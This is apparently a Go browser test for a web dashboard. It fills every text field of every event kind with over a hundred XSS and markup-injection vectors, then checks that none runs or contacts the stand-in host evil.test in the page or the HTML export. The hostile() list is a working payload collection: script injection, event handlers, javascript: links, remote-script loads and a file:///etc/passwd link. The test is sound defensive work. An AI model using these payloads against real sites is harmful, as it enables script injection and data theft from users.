package web_test

import (
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/chromedp/chromedp/kb"
	"github.com/stretchr/testify/require"

	"github.com/convene-run/convene/events"
	"github.com/convene-run/convene/internal/tsgen/types"
	"github.com/convene-run/convene/web"
)

// hostile are texts that would run, or call out, if a page took them for markup.
// Each calls boom() or asks evil.test for something.
func hostile() []string {
	run := "boom()"
	vectors := []string{
		`<script>` + run + `</script>`, `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`, `<script src="https://evil.test/x.js"></script>`,
		`</script><script>` + run + `</script>`, `<scr<script>ipt>` + run + `</script>`, `<script/x>` + run + `</script>`,
		`<script type=module>import "//evil.test/x.js"</script>`, `</textarea><script>` + run + `</script>`, `</title><script>` + run + `</script>`,
		`--><script>` + run + `</script>`, `]]><script>` + run + `</script>`, "<script\n>" + run + "</script\n>", `<svg><script>` + run + `</script></svg>`,
		`<svg><script href="https://evil.test/x.js"/></svg>`, `<svg><animate onbegin=` + run + ` attributeName=x dur=1s>`, `<svg><set onbegin=` + run + `>`,
		`<svg><use href="https://evil.test/x.svg#a"/></svg>`, `<svg><image href="https://evil.test/x.png"/></svg>`, `<svg><foreignObject><iframe src="https://evil.test/"></iframe></foreignObject></svg>`,
		`<svg><a xlink:href="javascript:` + run + `"><text>x</text></a></svg>`, `<svg><style>@import "https://evil.test/x.css"</style></svg>`,
		`<math href="javascript:` + run + `">x</math>`, `<math><mi xlink:href="javascript:` + run + `">x</mi></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=` + run + `></annotation-xml></math>`,
		`<iframe src="javascript:` + run + `"></iframe>`, `<iframe srcdoc="<script>parent.` + run + `</script>"></iframe>`, `<iframe src="https://evil.test/"></iframe>`,
		`<object data="javascript:` + run + `"></object>`, `<object data="https://evil.test/x"></object>`, `<embed src="https://evil.test/x">`, `<embed src="javascript:` + run + `">`,
		`<link rel=stylesheet href="https://evil.test/x.css">`, `<link rel=prefetch href="https://evil.test/x">`, `<link rel=import href="https://evil.test/x">`, `<link rel="dns-prefetch" href="//evil.test">`,
		`<meta http-equiv=refresh content="0;url=https://evil.test/">`, `<meta http-equiv=refresh content="0;url=javascript:` + run + `">`, `<base href="https://evil.test/">`,
		`<style>@import url(https://evil.test/x.css)</style>`, `<style>body{background:url(https://evil.test/x)}</style>`, `<style>@font-face{font-family:x;src:url(https://evil.test/f)}*{font-family:x}</style>`,
		`<div style="background:url(https://evil.test/x)">x</div>`, `<div style="background-image:image-set('https://evil.test/x' 1x)">x</div>`, `<div style="width:expression(` + run + `)">x</div>`, `<p style="-moz-binding:url(//evil.test/x)">x</p>`,
		`<form action="https://evil.test/"><button autofocus>x</button></form>`, `<form><button formaction="javascript:` + run + `">x</button></form>`, `<isindex action="javascript:` + run + `" type=image>`,
		`<img src="https://evil.test/x.png">`, `<img srcset="https://evil.test/x.png 1x">`, `<picture><source srcset="https://evil.test/x.png"><img></picture>`, `<img src=x:x onerror="` + run + `">`,
		`<img src=x onerror=` + run + `//`, `<img/src=x/onerror=` + run + `>`, "<img src=x\tonerror\t=\t" + run + ">", `<img src="x" onerror="&#98;oom()">`, `<img src=x onerror=\x62oom()>`, `"><img src=x onerror=` + run + `>`, `'><img src=x onerror=` + run + `>`,
		`<input autofocus onfocus=` + run + `>`, `<textarea autofocus onfocus=` + run + `></textarea>`, `<select autofocus onfocus=` + run + `></select>`, `<details open ontoggle=` + run + `>x</details>`,
		`<video src="https://evil.test/x" autoplay></video>`, `<video poster="https://evil.test/x"></video>`, `<audio src="https://evil.test/x" autoplay onerror=` + run + `></audio>`, `<video><source onerror=` + run + `></video>`, `<track src="https://evil.test/x">`,
		`<body onload=` + run + `>`, `<body background="https://evil.test/x">`, `<table background="https://evil.test/x"><td>x</table>`, `<frameset onload=` + run + `>`, `<marquee onstart=` + run + `>x</marquee>`, `<a onmouseover=` + run + `>x</a>`,
		`<a href="javascript:` + run + `" id=x>x</a>`, `<a href="&#106;avascript:` + run + `">x</a>`, `<a href=" java` + "\t" + `script:` + run + `">x</a>`, `<a href="data:text/html,<script>` + run + `</script>">x</a>`, `<a ping="https://evil.test/p" href="/">x</a>`,
		`<template><img src=x onerror=` + run + `></template>`, `<noscript><p title="</noscript><img src=x onerror=` + run + `>">`, `<xmp><img src=x onerror=` + run + `></xmp>`, `<plaintext><script>` + run + `</script>`, `<portal src="https://evil.test/"></portal>`,
		`<custom-element onclick=` + run + ` tabindex=0 autofocus onfocus=` + run + `>`, `<div contenteditable onfocus=` + run + ` autofocus>x</div>`, `<button popovertarget=x>y</button><div popover id=x onbeforetoggle=` + run + `>z</div>`,
		`![x](https://evil.test/x.png)`, `![x](https://evil.test/x.png "t")`, `![x][r]` + "\n\n[r]: https://evil.test/x.png", `![x](javascript:` + run + `)`, `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Ym9vbSgpPg==)`, `[![x](https://evil.test/i.png)](https://evil.test/)`,
		`[x](javascript:` + run + `)`, `[x](JaVaScRiPt:` + run + `)`, `[x](javascript&colon;` + run + `)`, `[x](java&Tab;script:` + run + `)`, `[x](<javascript:` + run + `>)`, `[x](vbscript:` + run + `)`, `[x](data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=)`,
		`[x](file:///etc/passwd)`, `[x](blob:https://evil.test/x)`, `[x](https://evil.test/)`, `[x](//evil.test/)`, `<javascript:` + run + `>`, `<https://evil.test/>`, `https://evil.test/auto`, `[x][r]` + "\n\n[r]: javascript:" + run,
		"[x](javascript:" + run + " 'title\" onmouseover=\"" + run + "')", `[<img src=x onerror=` + run + `>](x)`, "```html\n<script>" + run + "</script>\n```", "    <img src=x onerror=" + run + ">", "`<img src=x onerror=" + run + ">`", "| <img src=x onerror=" + run + "> |\n| --- |\n| <script>" + run + "</script> |",
		"- <img src=x onerror=" + run + ">\n- [ ] <script>" + run + "</script>", "> <iframe src=\"https://evil.test/\">", "# <img src=x onerror=" + run + ">", "<!-- x --><img src=x onerror=" + run + "><!--", "<?x <img src=x onerror=" + run + ">?>", "<![CDATA[<img src=x onerror=" + run + ">]]>",
		`{{constructor.constructor('` + run + `')()}}`, "${" + run + "}", `javascript:` + run, `__proto__`, `constructor`, "\u2028" + run, "\u202e<img src=x onerror=" + run + ">", `<img src=x onerror=` + run + `>` + "\x00", `%3Cscript%3E` + run + `%3C/script%3E`, `&lt;script&gt;` + run + `&lt;/script&gt;`,
		`*/` + run + `/*`, `";` + run + `;//`, `';` + run + `;//`, `\";` + run + `;//`, `</style><script>` + run + `</script>`, `" autofocus onfocus="` + run + `" x="`, `x" style="background:url(https://evil.test/x)" y="`,
	}
	return vectors
}

// poisoned is an event of a kind with the text in every field that holds text, as
// deep as they go, except where the fold needs a value that fits.
func poisoned(t *testing.T, kind events.Kind, text string) []events.Event {
	t.Helper()
	payload, err := types.Payload(kind)
	require.NoError(t, err)
	value := reflect.New(payload)
	poison(value.Elem(), text)
	return []events.Event{value.Elem().Interface().(events.Event)}
}

func poison(v reflect.Value, text string) {
	switch {
	case !v.CanSet():
	case v.Type() == reflect.TypeFor[json.RawMessage]():
		body, err := json.Marshal(map[string]string{"kind": text, text: text})
		if err == nil {
			v.SetBytes(body)
		}
	case v.Kind() == reflect.String:
		v.SetString(text)
	case v.Kind() == reflect.Struct:
		for i := range v.NumField() {
			poison(v.Field(i), text)
		}
	case v.Kind() == reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		poison(v.Elem(), text)
	case v.Kind() == reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		poison(v.Index(0), text)
	}
}

// hostileLog is a run in which every text is one of the vectors: every field of
// every kind that a fold takes so, each kind in turn, and documents, tasks and
// agents of their own for every vector.
func hostileLog(t *testing.T) (*events.Memory, *script) {
	log := events.NewMemory()
	s := newScript(t, log)
	vectors := hostile()
	require.GreaterOrEqual(t, len(vectors), 100)
	at := 0
	next := func() string { at++; return vectors[at%len(vectors)] }
	start := events.WorkflowStarted{Message: next(), Prompt: next(), Team: next(), BinaryVersion: next(), Config: json.RawMessage(`{"x":"<script>boom()</script>"}`)}
	for range 6 {
		start.Agents = append(start.Agents, events.AgentCard{ID: events.AgentID(next()), DisplayName: next(), Models: []string{next()}})
	}
	s.add(start)
	// Any kind that the page's fold takes in any state is poisoned as a whole.
	free := []events.Kind{
		events.KindWarning, events.KindError, events.KindLimitReached, events.KindFacilitatorMessage, events.KindAgentMessage, events.KindUserMessage,
		events.KindToolCall, events.KindToolStarted, events.KindDispatchRefused, events.KindModelCalled, events.KindHistoryCompacted,
		events.KindRunSuspended, events.KindRunResumed, events.KindFinalAnswer, events.KindCancelRequested,
	}
	envs := []events.Envelope{}
	add := func(agent, dispatch string, facts ...events.Event) {
		for _, fact := range facts {
			envs = append(envs, events.Envelope{Run: s.run, Agent: events.AgentID(agent), Dispatch: events.DispatchID(dispatch), Data: fact})
		}
	}
	for i, vector := range vectors {
		id := i + 1
		add(next(), "", events.TasksCreated{Tasks: []events.Task{{ID: events.TaskID(id), Text: vector, AssignedTo: start.Agents[i%6].ID}}})
		dispatch := fmt.Sprintf("d%d %s", id, vector)
		opened := poisoned(t, events.KindAgentStarted, vector)[0].(events.AgentStarted)
		opened.TaskIDs = []events.TaskID{events.TaskID(id)}
		add(vector, dispatch, opened)
		written := poisoned(t, events.KindDocumentUpdated, vector)[0].(events.DocumentUpdated)
		written.Version, written.EntryID, written.Replaced, written.Merged, written.Spans = id, events.EntryID(id), nil, nil, nil
		written.Tasks = []events.TaskID{events.TaskID(id)}
		if i > 100 {
			written.Section, written.Slot = "one", "main"
		}
		add(vector, dispatch, written)
		for _, kind := range free {
			add(vector, dispatch, poisoned(t, kind, vector)...)
		}
		if i%2 == 0 {
			add(vector, dispatch, poisoned(t, events.KindAgentFinished, vector)...)
			add(vector, "", events.TaskUpdated{Task: events.Task{ID: events.TaskID(id), Text: vector, AssignedTo: start.Agents[i%6].ID, Finished: true}, AutoCompleted: i%4 == 0})
		}
	}
	seen := map[events.Kind]bool{events.KindWorkflowStarted: true, events.KindWorkflowFinished: true, events.KindRunCancelled: true}
	add("", "", poisoned(t, events.KindFinalAnswer, strings.Join(vectors, "\n\n"))...)
	add("", "", poisoned(t, events.KindRunCancelled, vectors[0])...)
	finished := poisoned(t, events.KindWorkflowFinished, vectors[1])[0].(events.WorkflowFinished)
	add("", "", finished)
	for _, env := range envs {
		seen[env.Data.Kind()] = true
	}
	for _, kind := range events.Kinds() {
		if strings.HasPrefix(string(kind), "batch_") {
			continue // stands in a batch's thread
		}
		require.True(t, seen[kind], "%s is in the log", kind)
	}
	require.NoError(t, log.Append(t.Context(), s.key, s.epoch, s.seq, envs))
	s.seq += events.Seq(len(envs))
	return log, s
}

// Proves R71: of a hundred hostile texts and more, in every text field of every kind
// of event, nothing runs and nothing is asked for: on the list, in the run, in the
// export.
func TestHostileTextIsText(t *testing.T) {
	if raceDetector {
		t.Skip("the page is what is looked at, and it knows no race detector")
	}
	log, s := hostileLog(t)
	server := serve(t, web.Config{Log: log})
	b := browse(t)
	b.before(`window.booms = 0; window.boom = () => { window.booms++; }; window.alert = window.boom;`)
	look := func(address string, lists ...string) {
		b.open("about:blank")
		b.open(address)
		b.wait(`document.querySelector('.runs a') || document.querySelectorAll('#log-rows .row').length > 3`)
		// Every event, task and sentence is shown once; what has the focus would fire.
		for _, list := range lists {
			js[bool](b, fmt.Sprintf(`(async () => {
				const el = document.querySelector(%q);
				if (!el) return true;
				for (let top = 0; top <= el.scrollHeight; top += el.clientHeight) {
					el.scrollTop = top;
					await new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0)));
				}
				return true;
			})()`, list))
		}
		b.press("t", "c", "j", "j", "l", kb.ArrowDown, kb.ArrowDown, kb.End, kb.Home)
	}
	look(server.url("/"))
	look(server.url("/#/runs/"+string(s.run)), "#log-rows", "#plan-rows", "#document")
	b.shot("hostile")
	for _, kind := range []string{"script", "iframe", "object", "embed", "img", "image", "video", "audio", "link[href*=evil]", "svg", "math", "style", "base", "form[action]", "[onerror]", "[onload]", "[onfocus]", "[srcset]", "[ping]"} {
		allowed := 0
		if kind == "script" {
			allowed = 1 // the page's own
		}
		require.Equal(t, allowed, js[int](b, fmt.Sprintf(`document.querySelectorAll(%q).length`, kind)), kind)
	}
	links := js[[]string](b, `[...document.querySelectorAll('#document a')].map((a) => a.protocol)`)
	require.NotEmpty(t, links)
	for _, protocol := range links {
		require.Contains(t, []string{"http:", "https:", "mailto:"}, protocol)
	}
	require.True(t, js[bool](b, `[...document.querySelectorAll('#document a')].every((a) => a.rel.includes('noopener') && a.rel.includes('noreferrer') && a.target === '_blank')`))
	require.Zero(t, js[int](b, "booms"))

	_, _, export := server.get(t, "/api/v1/runs/"+string(s.run)+"/export?format=html")
	path := filepath.Join(t.TempDir(), "hostile.html")
	require.NoError(t, os.WriteFile(path, []byte(export), 0o600))
	look((&url.URL{Scheme: "file", Path: path}).String(), "#plan-rows", "#document")
	require.Zero(t, js[int](b, "booms"))
	require.Zero(t, js[int](b, "Object.keys({}.__proto__).length"), "no prototype was touched")

	for _, request := range b.requested() {
		require.NotContains(t, request, "evil.test")
		ours := strings.HasPrefix(request, server.url("/")) || strings.HasPrefix(request, "file://") || request == "about:blank"
		require.True(t, ours, request)
	}
	b.clean()
}
